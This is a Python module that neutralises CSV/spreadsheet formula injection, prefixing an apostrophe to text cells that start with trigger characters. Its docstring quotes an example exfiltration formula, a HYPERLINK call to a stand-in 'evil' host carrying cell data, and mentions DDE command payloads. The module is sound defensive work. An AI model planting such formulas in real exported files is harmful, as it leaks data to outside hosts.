"""CSV cells that a spreadsheet would run as a formula, neutralised (CSV injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula: a name like ``=HYPERLINK("http://evil/?"&A1,"山田")`` in a staff list would
send data away when the list is opened, ``=WEBSERVICE(...)`` and DDE payloads (``+cmd|...``) worse. Every
CSV written for people goes through :func:`neutralise_frame` (frames) or :func:`neutralise_cell` (single
values): such a text cell gets a leading apostrophe, which the spreadsheet shows as text and does not run.
Numbers held as numbers (a negative amount) are not text and stay unchanged; nothing else is altered.
"""

from __future__ import annotations

import numpy as np
import pandas as pd

#: First characters that make a spreadsheet evaluate a cell (OWASP "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_CHARACTERS = np.array(FORMULA_TRIGGERS)  # each trigger is one character


def neutralise_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text starting with a formula trigger; else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as formulas (numeric columns untouched)."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series):
            continue
        text = series.astype("string")
        # first characters as a fixed-width numpy array: one C pass, not a str.startswith call per cell
        first = text.to_numpy(dtype=object, na_value="").astype("U1")
        risky = np.isin(first, _TRIGGER_CHARACTERS)
        if risky.any():
            series = series.astype(object)
            series[risky] = "'" + text[risky].astype(object)
            out[column] = series
    return out
